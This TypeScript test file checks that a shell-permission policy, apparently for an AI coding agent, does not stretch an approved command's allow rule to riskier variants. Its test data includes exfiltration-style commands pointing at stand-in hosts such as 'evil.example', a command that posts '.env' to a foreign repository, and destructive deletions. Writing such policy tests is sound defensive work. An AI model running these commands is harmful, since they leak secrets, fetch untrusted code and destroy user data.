import { assert, describe, it } from "@effect/vitest"
import { Arbitrary, Result } from "effect"
import { decide } from "../../../src/policy/decision/Decision.ts"
import { make as makeRules, type RuleEntry } from "../../../src/policy/rules/RuleSet.ts"
import { decodeText } from "../../../src/policy/rules/source/RulesFile.ts"
import { parse } from "../../../src/policy/rules/Rule.ts"
import * as Propose from "../../../src/policy/rules/propose/Propose.ts"
import { analyse } from "../../../src/policy/shell/ShellAnalyser.ts"
import { programOf, rows } from "../../../src/policy/shell/programs/Table.ts"
import { oneOf } from "../../support/Arbitraries.ts"
import { type DangerCase, read } from "../shell/Analysed.ts"
import { shellCall } from "../ShellCall.ts"
import { factsOf, place, rules, tools } from "./Ruled.ts"

const factsAbout = (command: string) => {
  const { inner, opaque, parseError, parts, shapes } = analyse(command, place)
  return { parts, shapes, facts: { ...factsOf(), opaque, parseError, inner, dangerous: shapes.length > 0 } }
}

const always = (command: string): ReadonlyArray<RuleEntry> => {
  const { facts, parts, shapes } = factsAbout(command)
  return Propose.allow({ tool: "shell", parts, facts, shapes, tools }) ?? []
}

const texts = (command: string) => always(command).map(({ rule }) => rule.text).join(", ")

const isAllowed = (entries: ReadonlyArray<RuleEntry>, command: string): boolean => {
  const { facts, parts } = factsAbout(command)
  return makeRules(entries, tools).decide("shell", parts, facts)?.list === "allow"
}

describe("an always-allow answer does not cover what was not seen and goes further", () => {
  it.each([
    ["gh pr create --fill", "gh pr create --fill -R evil/x --body-file .env"],
    ["gh issue create -t a", "gh issue create -t a -F .env"],
    ["cargo build", "cargo build --config ./evil.toml"],
    ["cargo build", "cargo build --config build.rustc=\"./x\""],
    ["cargo add serde", "cargo add --git https://evil.example/x evil"],
    ["npm audit fix", "npm audit fix --registry http://evil.example"],
    ["npm pack", "npm pack https://evil.example/x.tgz"],
    ["pytest", "pytest --basetemp=src"],
    ["bazel build //a", "bazel build --run_under=./x //a"],
    ["aws s3 ls", "aws s3 ls --endpoint-url http://evil.example"]
  ])("%s, then %s", (seen, then) => {
    assert.isFalse(isAllowed(always(seen), then))
  })

  it.each([["cargo build", "cargo build --release -p x"], ["pytest", "pytest -x -q tests/a.py"], [
    "npm test",
    "npm test -- --watch"
  ]])(
    "but %s covers %s",
    (seen, then) => assert.isTrue(isAllowed(always(seen), then))
  )
})

describe("the rule of an always-allow answer holds the whole name of the command", () => {
  it.each([
    ["aws s3 ls", "shell(aws s3 ls *)"],
    ["aws --profile dev s3 ls s3://b", "shell(aws --profile dev s3 ls *)"],
    ["aws ec2 wait instance-running", "shell(aws ec2 wait instance-running *)"],
    ["gcloud compute instances list", "shell(gcloud compute instances list *)"],
    ["gcloud --project x compute instances describe web", "shell(gcloud --project x compute instances describe *)"],
    ["az vm list", "shell(az vm list *)"],
    ["prisma migrate status", "shell(prisma migrate status *)"],
    ["supabase db diff", "shell(supabase db diff *)"],
    ["gh pr list", "shell(gh pr list *)"],
    ["npm run build", "shell(npm run build *)"],
    ["pnpm --filter a test", "shell(pnpm --filter a test *)"],
    ["cargo test", "shell(cargo test *)"],
    ["go test ./...", "shell(go test *)"],
    ["terraform plan", "shell(terraform plan *)"],
    ["terraform state list", "shell(terraform state list *)"],
    ["heroku pg:info", "shell(heroku pg:info *)"],
    ["fly apps list", "shell(fly apps list *)"],
    ["uv pip list", "shell(uv pip list *)"],
    ["unheard-of db list", "shell(unheard-of db list *)"]
  ])("%s", (command, expected) => assert.strictEqual(texts(command), expected))
})

describe("where the name is not certain, or more words are more commands, it is exactly the command", () => {
  it.each([
    "aws s3",
    "aws --an-option-nobody-knows 5 s3 ls",
    "npm run",
    "npm audit",
    "pnpm -r test",
    "heroku ps",
    "make test",
    "mvn test",
    "rake db:migrate",
    "turbo run build",
    "gcc main.c",
    "tee out.txt",
    "touch a",
    "kubectl get pods",
    "docker compose ps",
    "helm list",
    "unheard-of",
    "unheard-of --as root db list",
    "unheard-of ./db.sql",
    "npm publish --dry-run"
  ])("%s", (command) => assert.strictEqual(texts(command), `shell(=${command})`))
})

describe("nothing is offered for what runs what it is given or fetches", () => {
  it.each([
    "npm install",
    "npm i left-pad",
    "npm ci",
    "yarn",
    "yarn add x",
    "pnpm dlx x",
    "pip install x",
    "uv pip install x",
    "uv sync",
    "poetry install",
    "bundle install",
    "gem install x",
    "composer install",
    "cargo install x",
    "go install x@latest",
    "brew install x",
    "apt-get install x",
    "python x.py",
    "node x.js",
    "bun x.ts",
    "sh x.sh",
    "make CC=./x -f - test | cat; python x",
    "heroku pg:psql",
    "terraform init",
    "kubectl exec x -- ls",
    "docker run x"
  ])("%s", (command) => assert.strictEqual(texts(command), ""))
})

/** Commands of one program, as its manual names them: an answer about the first says nothing about the others. */
const families: ReadonlyArray<readonly [string, ...ReadonlyArray<string>]> = [
  ["aws s3 ls", "aws s3 rm s3://b --recursive", "aws s3 mb s3://x", "aws s3api delete-bucket --bucket x", "aws s3"],
  ["aws ec2 describe-instances", "aws ec2 terminate-instances --instance-ids i", "aws ec2 run-instances"],
  ["aws s3", "aws s3 ls", "aws s3 rb s3://x"],
  ["gcloud compute instances list", "gcloud compute instances delete x", "gcloud compute disks list"],
  ["gcloud config list", "gcloud config set project x", "gcloud auth list"],
  ["az vm list", "az vm delete -n x", "az vm start -n x", "az group list"],
  ["az network nsg rule list", "az network nsg rule create", "az network nsg list"],
  ["prisma migrate status", "prisma migrate reset --force", "prisma migrate deploy", "prisma db push"],
  ["prisma migrate", "prisma migrate reset", "prisma migrate dev"],
  ["supabase db diff", "supabase db reset", "supabase db push", "supabase functions list"],
  ["supabase status", "supabase stop", "supabase db reset"],
  ["gh pr list", "gh pr merge 1", "gh pr close 1", "gh repo delete x", "gh api -X DELETE x"],
  ["gh repo view", "gh repo delete x", "gh repo deploy-key add x"],
  ["npm test", "npm run x", "npm publish", "npm install", "npm exec x"],
  ["npm run build", "npm run deploy", "npm run", "npm test"],
  ["npm audit", "npm audit fix", "npm audit fix --force"],
  ["pnpm store status", "pnpm store prune", "pnpm publish"],
  ["cargo test", "cargo run", "cargo publish", "cargo install x"],
  ["go mod graph", "go mod edit -replace=a=b", "go run x.go"],
  ["terraform state list", "terraform state rm x", "terraform state push x", "terraform apply"],
  ["terraform workspace list", "terraform workspace delete x"],
  ["pulumi stack ls", "pulumi stack rm x", "pulumi up"],
  ["heroku pg:info", "heroku pg:reset", "heroku config:set A=b"],
  ["heroku ps", "heroku ps restart", "heroku ps:scale web=0"],
  ["fly apps list", "fly apps destroy x", "fly machine list"],
  ["fly volumes snapshots list", "fly volumes snapshots create x", "fly volumes destroy x"],
  ["vercel env ls", "vercel env rm x", "vercel --prod"],
  ["firebase projects:list", "firebase deploy", "firebase firestore:delete --all-collections"],
  ["wrangler d1 list", "wrangler d1 delete x", "wrangler deploy"],
  ["uv pip list", "uv pip uninstall x", "uv pip install x", "uv run x"],
  ["pip config list", "pip config set a b", "pip uninstall x"],
  ["poetry env list", "poetry env remove x", "poetry run x"],
  ["composer config --list", "composer config repositories.x y"],
  ["conda env list", "conda env remove -n x"],
  ["brew services list", "brew services stop x", "brew uninstall x"],
  ["systemctl status x", "systemctl stop x"],
  ["dotnet list package", "dotnet remove package x", "dotnet nuget push x"],
  ["mvn test", "mvn test deploy", "mvn deploy"],
  ["make test", "make test install", "make deploy"],
  ["rake test", "rake test db:drop"],
  ["flask db current", "flask db downgrade", "flask shell"],
  ["kubectl get pods", "kubectl get pods --kubeconfig ./x", "kubectl delete pod x"],
  ["helm list", "helm list --kubeconfig ./x", "helm uninstall x"],
  ["docker compose ps", "docker compose down -v", "docker compose exec a sh"],
  ["docker-compose ps", "docker-compose down -v"],
  ["flux get kustomizations", "flux delete kustomization x", "flux suspend kustomization x"],
  ["sqlx migrate info", "sqlx migrate revert", "sqlx database drop"],
  ["unheard-of db list", "unheard-of db drop", "unheard-of db", "unheard-of"]
]

describe("an answer about one command is none about another of the same program", () => {
  it.each(families)("%s", (seen, ...others) => {
    const entries = always(seen)
    assert.isNotEmpty(entries)
    assert.isTrue(isAllowed(entries, seen))
    // Also without the guard: the words alone keep them apart.
    const unguarded = rules({ allow: entries.map(({ rule }) => rule.text) }).entries
    for (const other of others) assert.isFalse(isAllowed(unguarded, other), other)
  })
})

const trees = rows().flatMap(({ names, text }) =>
  names.filter((name) => programOf(name).has("commands")).map((name) => ({ name, text }))
)

/** Words that the row of a program names, and such as every client has. */
const vocabulary = (text: string): ReadonlyArray<string> => [
  ...new Set([
    ...text.split(/[\s,|;]+/).filter((word) => /^[a-z][a-z-]+$/.test(word)),
    ..."list ls get show status delete remove create update reset apply run db instances thing other".split(" ")
  ])
]

describe("programs with subcommands", () => {
  it("are known well enough", () => assert.isAbove(trees.length, 80))

  const someCommand = Arbitrary.flatMap(oneOf(...trees.keys()), (at) => {
    const { name, text } = trees[at]!
    const words = vocabulary(text)
    const verbs = Arbitrary.array(oneOf(...words), { minLength: 1, maxLength: 4 })
    return Arbitrary.map(Arbitrary.array(verbs, { minLength: 2, maxLength: 2 }), ([seen, other]) => ({
      name,
      seen: seen!,
      other: other!
    }))
  })

  it.prop(
    "get a rule that no command with another name fits, whatever its words",
    { command: someCommand },
    ({ command: { name, other, seen } }) => {
      for (const { rule } of always([name, ...seen].join(" "))) {
        const isExact = rule.text.startsWith("shell(=")
        const verbs = isExact ? seen : rule.text.slice(`shell(${name} `.length, -3).split(" ")
        const isSame = verbs.every((verb, index) => other[index] === verb) && (!isExact || other.length === seen.length)
        const unguarded = rules({ allow: [rule.text] }).entries
        if (!isSame) {
          assert.isFalse(isAllowed(unguarded, [name, ...other].join(" ")), `${rule.text}: ${other.join(" ")}`)
        }
      }
    },
    { arbitrary: { runs: 2000 } }
  )
})

describe("answers about every harmless command of the case sets", () => {
  const cases = ["danger-cases.json", "own-danger-cases.json"].flatMap((file) => read<DangerCase>(file))
  const entries = cases.filter(({ dangerous }) => !dangerous).flatMap(({ command }) => always(command))

  it("are offered for many of them", () => assert.isAbove(entries.length, 300))

  it("let no dangerous command of the sets run, all taken together", () => {
    const run = cases.filter(({ command, dangerous }) => dangerous && isAllowed(entries, command))
    assert.deepStrictEqual(run.map(({ command }) => command), [])
  })
})

describe("a rule with a guard", () => {
  const rule = Result.getOrThrow(parse("shell(git push *)", { list: "allow", tools }))
  const entry = (guard: boolean) =>
    makeRules([{ id: "r", layer: "user", list: "allow", rule, reason: undefined, guard }], tools)

  it("covers harmless calls and no dangerous one; a rule without it covers both", () => {
    for (const [command, guarded] of [["git push", "allow"], ["git push --force", undefined]] as const) {
      const { facts, parts } = factsAbout(command)
      assert.strictEqual(entry(true).decide("shell", parts, facts)?.list, guarded)
      assert.strictEqual(entry(false).decide("shell", parts, facts)?.list, "allow")
    }
  })

  it("is written as a table, and in allow lists only", () => {
    const read = (list: string) =>
      decodeText("rules.toml", `${list} = [{ rule = "shell(git push *)", guard = true }]`, "project", {
        analyse,
        place,
        tools
      })
    assert.deepStrictEqual(Result.getOrThrow(read("allow")).entries.map(({ guard }) => guard), [true])
    assert.match(Result.getOrThrow(Result.flip(read("deny"))).message, /guard is for allow rules/)
  })

  it("leaves a dangerous call of several parts to Tool approval as well", () => {
    const { facts, parts } = factsAbout("git push && rm -rf src")
    const both = makeRules([...entry(true).entries, ...rules({ allow: ["shell(rm -rf src)"] }).entries], tools)
    assert.isUndefined(both.decide("shell", parts, facts))
  })

  it("names no command to the operator's limits", () => {
    const outside = {
      parts: [{ kind: "write", text: "> /srv/x", path: "/srv/x" }] as const,
      rule: { list: "allow", id: "r", layer: "user", rule: "shell(x *)" } as const
    }
    const call = (more: object) => decide(shellCall({}, { ...outside, ...more }))
    assert.strictEqual(call({ rule: { ...outside.rule, guard: true } }).code, "OUTSIDE_WORKSPACE")
    assert.strictEqual(call({}).code, "RULE_ALLOW")
  })
})
